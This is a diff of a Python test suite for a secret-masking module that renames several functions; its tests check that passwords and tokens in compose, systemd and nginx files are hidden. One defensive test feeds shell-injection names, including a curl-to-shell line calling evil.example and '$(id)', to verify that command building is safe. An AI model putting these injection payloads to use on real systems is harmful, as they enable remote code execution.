@@ -5,7 +5,7 @@ import yaml
 from hypothesis import given
 from hypothesis import strategies as st
 
-from catalogue.masking import MARK, looks_secret, masked
+from catalogue.masking import MARK, looks_secret, mask_secrets
 from catalogue.systemd.parsing import sections
 from infra.adopt.host import command, nginx
 from infra.adopt.host.remarks import Remark
@@ -96,7 +96,7 @@ WAYS = {
 
 @pytest.mark.parametrize(("path", "text"), WAYS.values(), ids=WAYS)
 def test_a_secret_does_not_leave(path, text):
-    shown = masked(path, text.format(HIDDEN))
+    shown = mask_secrets(path, text.format(HIDDEN))
     assert HIDDEN not in shown
     if path == COMPOSE and "image" not in text:
         assert yaml.safe_load(shown)
@@ -106,8 +106,8 @@ def test_a_secret_does_not_leave(path, text):
 def test_a_secret_is_known_by_its_name(name):
     assert looks_secret(name)
     text = f"services:\n  api:\n    environment:\n      {name}: hunter2\n    image: x\n"
-    assert yaml.safe_load(masked(COMPOSE, text))["services"]["api"] == {"environment": {name: MARK}, "image": "x"}
-    assert "hunter2" not in masked(UNIT, f"[Service]\nEnvironment={name}=hunter2\n")
+    assert yaml.safe_load(mask_secrets(COMPOSE, text))["services"]["api"] == {"environment": {name: MARK}, "image": "x"}
+    assert "hunter2" not in mask_secrets(UNIT, f"[Service]\nEnvironment={name}=hunter2\n")
 
 
 @pytest.mark.parametrize("name", secret_names.PLAIN)
@@ -162,7 +162,7 @@ MORE_WAYS = {
 
 @pytest.mark.parametrize(("path", "text"), MORE_WAYS.values(), ids=MORE_WAYS)
 def test_a_secret_does_not_leave_in_other_programs_files(path, text):
-    assert HIDDEN not in masked(path, text.format(HIDDEN))
+    assert HIDDEN not in mask_secrets(path, text.format(HIDDEN))
 
 
 HARMLESS = {
@@ -187,7 +187,7 @@ HARMLESS = {
 
 @pytest.mark.parametrize(("path", "text"), HARMLESS.values(), ids=HARMLESS)
 def test_settings_are_no_secrets(path, text):
-    assert masked(path, text) == text
+    assert mask_secrets(path, text) == text
 
 
 def pem(kind: str, body: str) -> str:
@@ -198,14 +198,14 @@ def test_certificates_are_public():
     """In base64 any letters can come together, such as those of a password's name."""
     body = "MIIBszCCAVqgAwIBAgIUVq\nugymn64imallpwdOawevJRGkJ9FaUM0rIVaxmwsuQg=TokenToken"
     text = pem("CERTIFICATE", body)
-    assert masked("/usr/local/share/ca-certificates/root.crt", text * 2) == text * 2
+    assert mask_secrets("/usr/local/share/ca-certificates/root.crt", text * 2) == text * 2
     for other in (f"{text}PASSWORD=hunter22\n", pem("CERTIFICATE", "password=hunter22"), pem("PRIVATE KEY", body)):
-        assert masked("/etc/x.crt", other) != other
+        assert mask_secrets("/etc/x.crt", other) != other
 
 
 @pytest.mark.parametrize("text", ["ADMIN_PASSWORD=4711\n", "PIN=1234\n", "DB_PASS=yes-it-is\n", "TOKEN=$ecret\n"])
 def test_short_secrets_are_secrets(text):
-    assert MARK in masked("/a.env", text)
+    assert MARK in mask_secrets("/a.env", text)
 
 
 PROXIES = [text for path, text in WAYS.values() if path == NGINX and "{{" in text]
@@ -213,20 +213,20 @@ PROXIES = [text for path, text in WAYS.values() if path == NGINX and "{{" in tex
 
 @pytest.mark.parametrize("text", PROXIES)
 def test_what_is_masked_in_a_proxys_configuration_can_still_be_read(text):
-    assert nginx.parsed(masked(NGINX, text.format(HIDDEN)))
+    assert nginx.parse(mask_secrets(NGINX, text.format(HIDDEN)))
 
 
 @pytest.mark.parametrize("name", [name for name, (path, text) in WAYS.items() if "MODE" in text and "DB" not in text])
 def test_what_stands_beside_it_is_still_read(name):
     path, text = WAYS[name]
-    assert "MODE" in masked(path, text.format(HIDDEN))
+    assert "MODE" in mask_secrets(path, text.format(HIDDEN))
 
 
 def test_the_name_of_a_masked_variable_is_told():
     text = "services:\n  api:\n    environment:\n      API_KEY: x\n      MODE: fast\n    image: a\n"
-    body = yaml.safe_load(masked(COMPOSE, text))["services"]["api"]
+    body = yaml.safe_load(mask_secrets(COMPOSE, text))["services"]["api"]
     assert body == {"environment": {"API_KEY": MARK, "MODE": "fast"}, "image": "a"}
-    unit = sections(masked(UNIT, '[Service]\nEnvironment=A=1 "API_KEY=x y" B=2\n'))
+    unit = sections(mask_secrets(UNIT, '[Service]\nEnvironment=A=1 "API_KEY=x y" B=2\n'))
     assert unit["Service"]["Environment"] == f'A=1 "API_KEY={MARK}" B=2'
 
 
@@ -239,8 +239,8 @@ WORDS = st.text("abcdefghijklmnopqrstuvwxyzABCXYZ0123456789!#$%*+,./:;<=>?@[]^_|
 def test_no_value_of_a_secret_name_gets_through(value, quote, as_list):
     item = f"- {quote}DB_PASSWORD={value}{quote}" if as_list else f"DB_PASSWORD: {quote}{value}{quote}"
     text = f"services:\n  api:\n    environment:\n      {item}\n    image: x\n"
-    assert value not in masked(COMPOSE, text)
-    assert value not in masked(UNIT, f"[Service]\nEnvironment={quote}DB_PASSWORD={value}{quote}\n")
+    assert value not in mask_secrets(COMPOSE, text)
+    assert value not in mask_secrets(UNIT, f"[Service]\nEnvironment={quote}DB_PASSWORD={value}{quote}\n")
 
 
 AROUND = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"], include_characters="\n "), max_size=90)
@@ -252,13 +252,13 @@ def test_however_yaml_writes_a_value_it_does_not_get_through(before, after, as_l
     environment = [f"DB_PASSWORD={value}", "MODE=fast"] if as_list else {"DB_PASSWORD": value, "MODE": "fast"}
     data = {"services": {"api": {"environment": environment, "image": "x"}}}
     text = yaml.safe_dump(data, default_flow_style=flow, width=width, allow_unicode=True)
-    assert HIDDEN not in masked(COMPOSE, text), text
+    assert HIDDEN not in mask_secrets(COMPOSE, text), text
 
 
 @pytest.mark.parametrize("path", ["compose.service.j2", "site.conf.j2", "network.service.j2"])
 def test_what_is_no_secret_stays_as_it_is(path):
     text = (ROOT / "files/templates" / path).read_text()
-    assert masked(UNIT if "service" in path else NGINX, text) == text
+    assert mask_secrets(UNIT if "service" in path else NGINX, text) == text
 
 
 KEPT = {
@@ -275,7 +275,7 @@ KEPT = {
 
 @pytest.mark.parametrize(("path", "text"), KEPT.values(), ids=KEPT)
 def test_what_only_looks_alike_stays(path, text):
-    assert masked(path, text) == text
+    assert mask_secrets(path, text) == text
 
 
 @pytest.mark.parametrize(
@@ -295,23 +295,23 @@ def test_long_names_are_no_secrets(line):
         if not line.startswith("-")
         else f"services:\n  api:\n    volumes:\n    {line}\n"
     )
-    assert masked(COMPOSE, text) == text
+    assert mask_secrets(COMPOSE, text) == text
 
 
 def test_a_file_of_which_the_rest_was_not_understood_cannot_be_read_as_if_it_were_whole():
     text = "services:\n  a:\n    environment: {MODE: it's}\n  b:\n    image: x\n"
     with pytest.raises(yaml.YAMLError):
-        yaml.safe_load(masked(COMPOSE, text))
+        yaml.safe_load(mask_secrets(COMPOSE, text))
 
 
 @pytest.mark.parametrize(
     "name", ["KEY;curl${IFS}evil.example|sh;#", "A B", "$(id)", "KEY\x1b[2K", "A\nB", "--help", ""]
 )
 def test_no_command_is_made_of_a_name_that_no_variable_has(name):
-    line = command._set(Remark("secret", "app", name))
+    line = command._secret_line(Remark("secret", "app", name))
     assert not line.startswith("infra") and "\x1b" not in line and "\n" not in line
 
 
 def test_a_secrets_command_names_it():
-    line = command._set(Remark("secret", "app", "API_KEY"))
+    line = command._secret_line(Remark("secret", "app", "API_KEY"))
     assert line == "infra secret set app.API_KEY"
